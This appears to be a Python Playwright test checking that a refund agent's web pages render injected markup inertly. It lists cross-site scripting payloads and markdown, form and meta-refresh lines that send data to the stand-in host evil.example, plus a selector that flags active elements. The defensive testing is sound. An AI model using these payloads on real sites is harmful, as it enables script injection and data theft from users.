"""Markup and scripts in everything that the page shows: nothing runs, nothing is fetched."""

import asyncio
import signal
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

from playwright.sync_api import Browser, Dialog
from pydantic import SecretStr

from agent.errors import InputError
from agent.session import Session
from agent.settings import Settings
from tests.browser.chromium import CHROMIUM, HERE, Watch, chromium
from tests.model_server import good, serve, stream
from tests.served_page import ServedPage, served
from tests.sessions import BLENDER, REFUSED

RUN = "window.pwned=1"
FAR = "http://evil.example/q?d=112-1234567-7654321"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">look</a>',
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f'"><input autofocus onfocus="{RUN}">',
    f"</textarea><script>{RUN}</script>",
    f"![a]({FAR})",
    f"![a][1]\n\n[1]: {FAR}",
    f"[look]({FAR}) <{FAR}>",
    f"[run](javascript:{RUN})",
    f'<img src="{FAR}"><link rel=stylesheet href="{FAR}"><base href="{FAR}">',
    f'<style>@import url("{FAR}"); body{{background:url("{FAR}")}}</style>',
    f'<form action="{FAR}"><button autofocus>Send</button></form>',
    f'<meta http-equiv=refresh content="0;{FAR}">',
    f'<video src="{FAR}" autoplay></video><object data="{FAR}"></object><embed src="{FAR}">',
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    f"```mermaid\ngraph TD; A[\"<img src=x onerror='{RUN}'>\"]\n```",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"\u202e<scr\0ipt>{RUN}</scr\0ipt> &lt;script&gt;{RUN}&lt;/script&gt;",
)  # fmt: skip
ACTIVE = """() => {
  const shown = "[data-testid=user], [data-testid=bot], [id^=rd-p-], #rd-cases";
  const bad = "script, iframe, object, embed, base, form[action*='evil'], [src*='evil'],"
    + "[href*='evil'], [href^='javascript'], [onerror], [onload], [onfocus], [ontoggle]";
  const found = [...document.querySelectorAll(shown)].flatMap(
    (place) => [...place.querySelectorAll(bad)].map((one) => one.outerHTML.slice(0, 80)));
  return (window.pwned ? ["ran"] : []).concat(found);
}"""


def rendered(folder: Path, payloads: int) -> tuple[int, int, str]:
    """Opens a case for each payload, which is in all that is shown; counts what became active."""
    if CHROMIUM is None:
        return 0, 0, "needs chromium"
    site = ServedPage(folder)
    cases = [asyncio.run(_case(site.data, PAYLOADS[n % len(PAYLOADS)])) for n in range(payloads)]
    with served(site, signal.SIGKILL), chromium() as browser:
        found = [_active(browser, f"{site.url}?case={quote(case)}") for case in cases]
    wrong = ["; ".join(one) for one in found if one]
    places = "message, words of a model, pasted line, file, its name, name of the case"
    return len(wrong), payloads, f"{places}; {'; '.join(wrong[:3]) or 'all plain'}"


async def _case(data: Path, payload: str) -> str:
    """A case that holds a payload wherever a person, a file or a model puts words."""
    async with serve(stream(*good(f"Please refund me. {payload}"))) as model:
        settings = Settings(
            data=data, base_url=model.url, api_key=SecretStr("none"), model_timeout=3
        )
        async with Session(settings) as redress:
            case_id = (await redress.ask(None, f"{BLENDER} They wrote: {payload}")).case_id
            with suppress(InputError):  # not every payload makes a name
                await redress.add_document(case_id, f"{payload}.txt", f"Seen: {payload}".encode())
            await redress.ask(case_id, f'{REFUSED} The rep just said: "{payload}"')
            await redress.rename(case_id, payload)
    return case_id


def _active(browser: Browser, url: str) -> list[str]:
    """What became active on the page of a case, in a browser that has seen nothing else."""
    watch, context = Watch(), browser.new_context()
    watch.over(context)
    page = context.new_page()
    asked: list[str] = []
    page.on("dialog", lambda dialog: _noted(dialog, asked))
    page.goto(url, wait_until="networkidle")
    page.get_by_test_id("bot").last.wait_for()
    for tab in page.get_by_role("tab").all():
        tab.click()
    found = [str(one) for one in page.evaluate(ACTIVE)]
    here = [f"left for {page.url}"] * (not page.url.startswith(HERE))
    context.close()
    return found + asked + here + [f"fetched {address}" for address in watch.abroad]


def _noted(dialog: Dialog, asked: list[str]) -> None:
    asked.append("a dialog")
    dialog.dismiss()
